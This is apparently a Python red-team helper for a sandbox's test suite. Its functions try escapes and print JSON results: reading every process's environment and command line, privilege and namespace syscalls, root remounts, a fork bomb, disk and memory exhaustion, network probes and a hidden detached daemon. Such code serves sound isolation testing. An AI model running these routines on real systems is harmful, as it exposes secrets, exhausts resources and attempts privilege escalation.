"""Hostile code run INSIDE the sandbox by the red-team tests (fed to `python -` on stdin).

Usage: python - ATTACK [ARG...]. Each attack prints one JSON object on stdout saying
what it tried and what happened; the tests on the trusted side decide. Nothing here
asserts: a hostile candidate does not cooperate.
"""

import base64
import ctypes
import errno
import json
import os
import socket
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
# x86_64 syscall numbers (the tests skip elsewhere).
NR = {
    "bpf": 321,
    "keyctl": 250,
    "setns": 308,
    "unshare": 272,
    "ptrace": 101,
    "io_uring_setup": 425,
    "userfaultfd": 323,
    "perf_event_open": 298,
    "clone3": 435,
    "mknodat": 259,
    "personality": 135,
    "pivot_root": 155,
    "kexec_load": 246,
    "init_module": 175,
    "open_by_handle_at": 304,
    "process_vm_readv": 310,
    "swapoff": 168,
    "syslog": 103,
    "settimeofday": 164,
    "chroot": 161,
    "acct": 163,
    "umount2": 166,
    "mount": 165,
    "fsopen": 430,
}


def out(**kw):
    print(json.dumps(kw), flush=True)


def raw(name, *args):
    """(return value, errno) of a raw syscall."""
    ctypes.set_errno(0)
    r = libc.syscall(NR[name], *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return r, ctypes.get_errno()


def attack_identity():
    status = open("/proc/self/status").read()
    fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
    out(
        uid=os.getuid(),
        euid=os.geteuid(),
        cap_eff=fields["CapEff"].strip(),
        cap_prm=fields["CapPrm"].strip(),
        cap_bnd=fields["CapBnd"].strip(),
        seccomp=fields["Seccomp"].strip(),
        no_new_privs=fields["NoNewPrivs"].strip(),
    )


def attack_mounts():
    res = {}
    for name, argv in {
        "remount_root_rw": ["mount", "-o", "remount,rw", "/"],
        "remount_bind_rw": ["mount", "-o", "remount,bind,rw", "/usr"],
        "umount_tmp": ["umount", "/tmp"],
        "umount_lazy": ["umount", "-l", "/usr"],
    }.items():
        try:
            p = subprocess.run(argv, capture_output=True, text=True, timeout=20)
            res[name] = [p.returncode, (p.stderr or p.stdout).strip()[-200:]]
        except OSError as e:
            res[name] = [-1, str(e)]
    res["mount_syscall"] = raw("mount", b"none", b"/usr", b"tmpfs", 0, None)
    res["umount2_syscall"] = raw("umount2", b"/tmp", 0)
    res["fsopen_syscall"] = raw("fsopen", b"tmpfs", 0)
    res["pivot_root"] = raw("pivot_root", b"/tmp", b"/tmp")
    res["chroot"] = raw("chroot", b"/tmp")
    out(**res)


def attack_privileges():
    res = {}
    try:
        os.setuid(0)
        res["setuid0"] = "succeeded"
    except OSError as e:
        res["setuid0"] = e.errno
    res["unshare_user"] = raw("unshare", 0x10000000)
    res["unshare_net"] = raw("unshare", 0x40000000)
    res["unshare_mount"] = raw("unshare", 0x00020000)
    fd = os.open("/proc/self/ns/net", os.O_RDONLY)
    res["setns"] = raw("setns", fd, 0)
    res["ptrace_traceme"] = raw("ptrace", 0, 0, 0, 0)  # PTRACE_TRACEME
    res["ptrace_attach_1"] = raw("ptrace", 16, 1, 0, 0)
    res["bpf"] = raw("bpf", 0, None, 0)
    res["keyctl"] = raw("keyctl", 0, -3, 0)  # KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING
    res["io_uring_setup"] = raw("io_uring_setup", 1, ctypes.create_string_buffer(120))
    res["userfaultfd"] = raw("userfaultfd", 0)
    res["perf_event_open"] = raw("perf_event_open", ctypes.create_string_buffer(128), 0, -1, -1, 0)
    res["clone3"] = raw("clone3", None, 0)
    res["mknod_char"] = raw("mknodat", -100, b"/tmp/mem", 0o020600, os.makedev(1, 1))  # S_IFCHR
    res["mknod_fifo"] = raw("mknodat", -100, b"/tmp/fifo", 0o010600, 0)  # S_IFIFO: allowed
    res["personality_no_aslr"] = raw("personality", 0x0040000)
    res["kexec_load"] = raw("kexec_load", 0, 0, None, 0)
    res["init_module"] = raw("init_module", None, 0, b"")
    res["open_by_handle_at"] = raw("open_by_handle_at", -100, None, 0)
    res["process_vm_readv"] = raw("process_vm_readv", 1, None, 0, None, 0, 0)
    res["swapoff"] = raw("swapoff", b"/dev/null")
    res["syslog"] = raw("syslog", 3, None, 0)
    res["settimeofday"] = raw("settimeofday", None, None)
    res["acct"] = raw("acct", None)
    import threading

    box = []
    t = threading.Thread(target=box.append, args=(1,))
    t.start()
    t.join()
    res["threads_work"] = box == [1]
    res["subprocess_works"] = subprocess.run(["true"]).returncode == 0
    out(**res)


def attack_writes(*targets):
    res = {}
    for t in targets:
        try:
            with open(t, "a") as f:
                f.write("pwned by the sandbox\n")
            res[t] = "written"
        except OSError as e:
            res[t] = errno.errorcode.get(e.errno, str(e.errno))
    out(**res)


def attack_visible(*paths):
    out(
        **{p: os.path.exists(p) for p in paths},
        root=sorted(os.listdir("/")),
        etc=sorted(os.listdir("/etc")),
        dev=sorted(os.listdir("/dev")),
    )


def attack_secrets():
    """Everything environment-like reachable: our environ, every /proc/*/environ and cmdline."""
    found = {"self": dict(os.environ)}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for what in ("environ", "cmdline"):
                try:
                    found[f"{pid}/{what}"] = base64.b64encode(
                        open(f"/proc/{pid}/{what}", "rb").read()
                    ).decode()
                except OSError as e:
                    found[f"{pid}/{what}"] = f"error {e.errno}"
    found["ppid"] = os.getppid()
    out(**found)


def attack_fill(path, total_mb):
    written = 0
    err = None
    chunk = b"x" * (1 << 20)
    try:
        with open(path, "wb") as f:
            for _ in range(int(total_mb)):
                f.write(chunk)
                f.flush()
                written += len(chunk)
    except OSError as e:
        err = errno.errorcode.get(e.errno, str(e.errno))
    out(path=path, written=written, error=err)


def attack_forkbomb(n):
    kids, err = [], None
    for _ in range(int(n)):
        try:
            pid = os.fork()
        except OSError as e:
            err = errno.errorcode.get(e.errno, str(e.errno))
            break
        if pid == 0:
            time.sleep(300)
            os._exit(0)
        kids.append(pid)
    out(forked=len(kids), error=err)
    time.sleep(300)  # leave them all running: the sandbox's end must kill them


def attack_memory(mb):
    try:
        block = bytearray(int(mb) << 20)
        for i in range(0, len(block), 4096):
            block[i] = 1
        out(allocated_mb=int(mb))
    except MemoryError:
        out(error="MemoryError")


def attack_stderr(mb):
    chunk = b"e" * (1 << 20)
    for _ in range(int(mb)):
        os.write(2, chunk)
    os.write(2, b"\nTHE-LAST-LINE-OF-STDERR\n")
    out(done=True)


def attack_long_line(nbytes):
    sys.stdout.write("y" * int(nbytes))
    sys.stdout.flush()
    time.sleep(300)


def attack_network(port):
    res = {}
    for host in ("127.0.0.1", "::1"):
        try:
            s = socket.create_connection((host, int(port)), timeout=3)
            s.sendall(b"escaped")
            res[host] = "connected"
            s.close()
        except OSError as e:
            res[host] = errno.errorcode.get(e.errno, str(e))
    try:
        socket.getaddrinfo("pypi.org", 443)
        res["dns"] = "resolved"
    except OSError as e:
        res["dns"] = str(e)[:80]
    out(**res)


def attack_escape(tag):
    # A daemon in a new session with an empty environment: no marker to find it by.
    subprocess.Popen(
        ["setsid", "env", "-i", "sh", "-c", f"sleep 300; : {tag}"],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    out(spawned=True)


if __name__ == "__main__":
    globals()[f"attack_{sys.argv[1]}"](*sys.argv[2:])
